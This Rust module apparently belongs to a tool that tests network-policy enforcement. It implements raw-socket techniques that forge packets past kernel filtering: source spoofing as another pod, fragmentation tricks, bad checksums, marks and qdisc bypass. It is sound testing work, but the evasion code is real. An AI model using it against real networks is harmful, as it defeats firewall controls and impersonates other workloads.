//! What a process with CAP_NET_RAW can do: headers of its own making, below all socket hooks.

use std::{
    io,
    net::{IpAddr, SocketAddr},
};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::{
    Technique,
    attack::{Attack, Outcome},
    packet::{self, protocol},
    sys,
};

pub const TECHNIQUES: &[Technique] = &[
    ("raw-echo", raw_echo),
    ("raw-header", raw_header),
    ("raw-header-marked", raw_header_marked),
    ("packet", packet_plain),
    ("packet-spoofed", packet_spoofed),
    ("packet-options", packet_options),
    ("packet-tiny-fragments", packet_tiny_fragments),
    ("packet-later-fragment", packet_later_fragment),
    ("packet-priority-tag", packet_priority_tag),
    ("packet-bad-checksum", packet_bad_checksum),
    ("packet-segmented", packet_segmented),
    ("packet-marked", packet_marked),
    ("packet-unqueued", packet_unqueued),
];

/// SYN, datagram and echo request from an address to the target.
pub fn messages(attack: &Attack, from: IpAddr) -> Vec<Vec<u8>> {
    let ends = ((from, attack.source_port), (attack.to, attack.port));
    let (icmp, echo) = packet::echo(from, attack.to, attack.source_port, &attack.token);
    [
        (protocol::TCP, packet::syn(ends.0, ends.1, &attack.token)),
        (protocol::UDP, packet::udp(ends.0, ends.1, &attack.token)),
        (icmp, echo),
    ]
    .map(|(number, message)| packet::ip(from, attack.to, number, &message))
    .to_vec()
}

/// Frames to the next hop, past everything that the kernel does with packets.
pub struct Frames {
    socket: Socket,
    at: SockAddr,
    from: [u8; 6],
    to: [u8; 6],
}

impl Frames {
    pub fn new(attack: &Attack) -> io::Result<Self> {
        let (socket, at) = sys::packet_socket(&attack.device)?;
        Ok(Self {
            socket,
            at,
            from: sys::hardware_address(&attack.device)?,
            to: attack.next_hop,
        })
    }

    /// Sends IP packets.
    pub fn send(&self, packets: &[Vec<u8>]) -> io::Result<Outcome> {
        for packet in packets {
            self.send_frame(&packet::frame(self.to, self.from, packet))?;
        }
        Ok(Outcome::Sent)
    }

    /// Sends a frame as it is.
    pub fn send_frame(&self, frame: &[u8]) -> io::Result<()> {
        self.socket.send_to(frame, &self.at).map(drop)
    }

    /// The own hardware address.
    pub const fn hardware(&self) -> [u8; 6] {
        self.from
    }
}

fn raw_echo(attack: &Attack) -> io::Result<Outcome> {
    let (number, message) = packet::echo(attack.from, attack.to, attack.source_port, &attack.token);
    let domain = Domain::for_address(attack.target());
    let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(i32::from(number))))?;
    socket.send_to(&message, &SocketAddr::new(attack.to, 0).into())?;
    Ok(Outcome::Sent)
}

/// Whole packets through the kernel's routing.
fn raw_header(attack: &Attack) -> io::Result<Outcome> {
    send_whole(&whole(attack)?, attack, &messages(attack, attack.from))
}

fn raw_header_marked(attack: &Attack) -> io::Result<Outcome> {
    let socket = whole(attack)?;
    let mut last = Ok(Outcome::Sent);
    for &mark in &attack.marks {
        socket.set_mark(mark)?;
        last = send_whole(&socket, attack, &messages(attack, attack.from));
    }
    last
}

/// A raw socket for whole packets.
fn whole(attack: &Attack) -> io::Result<Socket> {
    let domain = Domain::for_address(attack.target());
    Socket::new(domain, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))
}

/// Hands whole packets to the kernel's routing; the first error is told after all have been tried.
fn send_whole(socket: &Socket, attack: &Attack, packets: &[Vec<u8>]) -> io::Result<Outcome> {
    let at: SockAddr = SocketAddr::new(attack.to, 0).into();
    let results: Vec<io::Result<usize>> = packets
        .iter()
        .map(|packet| socket.send_to(packet, &at))
        .collect();
    for result in results {
        result?;
    }
    Ok(Outcome::Sent)
}

fn packet_plain(attack: &Attack) -> io::Result<Outcome> {
    Frames::new(attack)?.send(&messages(attack, attack.from))
}

/// As a granted pod, by address.
fn packet_spoofed(attack: &Attack) -> io::Result<Outcome> {
    Frames::new(attack)?.send(&messages(attack, attack.needed_victim()?))
}

/// Options move the ports away from where they usually are.
fn packet_options(attack: &Attack) -> io::Result<Outcome> {
    let (IpAddr::V4(from), IpAddr::V4(to)) = (attack.from, attack.to) else {
        return Err(io::Error::other("IPv6 has extension headers"));
    };
    let ends = ((attack.from, attack.source_port), (attack.to, attack.port));
    // Nothing to do; a time stamp; a router alert.
    let all: [&[u8]; 3] = [&[1, 1, 1, 1], &[68, 8, 5, 0, 0, 0, 0, 0], &[148, 4, 0, 0]];
    let packets: Vec<Vec<u8>> = all
        .iter()
        .flat_map(|options| {
            [
                (protocol::TCP, packet::syn(ends.0, ends.1, &attack.token)),
                (protocol::UDP, packet::udp(ends.0, ends.1, &attack.token)),
            ]
            .map(|(number, message)| packet::v4(from, to, number, options, 0, &message))
        })
        .collect();
    Frames::new(attack)?.send(&packets)
}

/// A SYN and a datagram in parts of 8 bytes: not even the ports and flags of TCP are in the first.
fn packet_tiny_fragments(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    for packets in tiny(attack, attack.from) {
        frames.send(&packets)?;
    }
    Ok(Outcome::Sent)
}

/// SYN and datagram, each cut into parts of 8 bytes.
fn tiny(attack: &Attack, from: IpAddr) -> Vec<Vec<Vec<u8>>> {
    let ends = ((from, attack.source_port), (attack.to, attack.port));
    [
        (protocol::TCP, packet::syn(ends.0, ends.1, &attack.token)),
        (protocol::UDP, packet::udp(ends.0, ends.1, &attack.token)),
    ]
    .map(|(number, message)| {
        let last = message.len().div_ceil(8) - 1;
        message
            .chunks(8)
            .enumerate()
            .map(|(index, part)| fragment(from, attack.to, number, index, index < last, part))
            .collect()
    })
    .to_vec()
}

/// One part of a message, `index` times 8 bytes from its start.
pub fn fragment(
    from: IpAddr,
    to: IpAddr,
    number: u8,
    index: usize,
    more: bool,
    part: &[u8],
) -> Vec<u8> {
    let index = u16::try_from(index).unwrap_or(0);
    match (from, to) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            packet::v4(from, to, number, &[], index | u16::from(more) << 13, part)
        }
        (IpAddr::V6(from), IpAddr::V6(to)) => {
            let mut payload = vec![number, 0];
            payload.extend((index << 3 | u16::from(more)).to_be_bytes());
            // The identification tells apart what is cut.
            payload.extend([0x52, 0x46, 0, number]);
            payload.extend(part);
            packet::v6(from, to, protocol::FRAGMENT, &payload)
        }
        _ => Vec::new(),
    }
}

/// A later part without its first: nothing but the address tells where it goes.
fn packet_later_fragment(attack: &Attack) -> io::Result<Outcome> {
    let mut part = attack.token.clone();
    part.resize(part.len().next_multiple_of(8), 0);
    let packets = [protocol::TCP, protocol::UDP]
        .map(|number| fragment(attack.from, attack.to, number, 3, false, &part));
    Frames::new(attack)?.send(&packets)
}

/// A tag that says nothing but a priority: the kernel takes it off and goes on.
fn packet_priority_tag(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    for packet in messages(attack, attack.from) {
        let kind = if attack.to.is_ipv4() {
            0x0800_u16
        } else {
            0x86dd
        };
        let tagged = [&[0xe0, 0][..], &kind.to_be_bytes(), &packet].concat();
        let frame = packet::ethernet(frames.to, frames.from, 0x8100, &tagged);
        frames.send_frame(&frame)?;
    }
    Ok(Outcome::Sent)
}

/// A wrong checksum: connection tracking calls it invalid and does not translate it.
fn packet_bad_checksum(attack: &Attack) -> io::Result<Outcome> {
    let ends = ((attack.from, attack.source_port), (attack.to, attack.port));
    let mut message = packet::syn(ends.0, ends.1, &attack.token);
    message.splice(16..18, [0xba, 0xd0]);
    let packet = packet::ip(attack.from, attack.to, protocol::TCP, &message);
    Frames::new(attack)?.send(&[packet])
}

/// One large segment that the kernel is to cut, most of it outside the buffer's linear part: not even the IP header is in it.
fn packet_segmented(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    sys::set_number(&frames.socket, libc::SOL_PACKET, libc::PACKET_VNET_HDR, 1)?;
    let mut payload = Vec::new();
    while payload.len() < 6000 {
        payload.extend(&attack.token);
    }
    let ends = ((attack.from, attack.source_port), (attack.to, attack.port));
    let mut segment = packet::syn(ends.0, ends.1, &payload);
    // Under way: an acknowledgement and a push. The sum is of the pseudo header, the kernel adds the rest.
    segment.splice(12..14, [0x50, 0x18]);
    let sum = packet::pseudo_sum(attack.from, attack.to, protocol::TCP, segment.len());
    segment.splice(16..18, sum.to_be_bytes());
    let packet = packet::ip(attack.from, attack.to, protocol::TCP, &segment);
    let header = packet.len() - segment.len();
    let frame = packet::frame(frames.to, frames.from, &packet);
    // Flags (checksum needed), kind of segmentation, linear length, size of a segment, where the checksum is.
    let kind = if attack.to.is_ipv4() { 1 } else { 4 };
    let numbers = [14, 500, 14 + header, 16].map(packet::native_short);
    let announced = [&[1, kind][..], numbers.as_flattened(), &frame].concat();
    frames.send_frame(&announced)?;
    Ok(Outcome::Sent)
}

/// With marks that may mean something to somebody: from the own address and from a granted pod's.
fn packet_marked(attack: &Attack) -> io::Result<Outcome> {
    marked(&Frames::new(attack)?, attack)
}

fn marked(frames: &Frames, attack: &Attack) -> io::Result<Outcome> {
    for &mark in &attack.marks {
        frames.socket.set_mark(mark)?;
        frames.send(&messages(attack, attack.from))?;
        if let Some(victim) = attack.victim {
            frames.send(&messages(attack, victim))?;
        }
    }
    Ok(Outcome::Sent)
}

/// Past the device's queue, and with it past everything that is attached to its way out.
fn packet_unqueued(attack: &Attack) -> io::Result<Outcome> {
    let frames = Frames::new(attack)?;
    let bypass = libc::PACKET_QDISC_BYPASS;
    sys::set_number(&frames.socket, libc::SOL_PACKET, bypass, 1)?;
    frames.send(&messages(attack, attack.from))?;
    marked(&frames, attack)
}
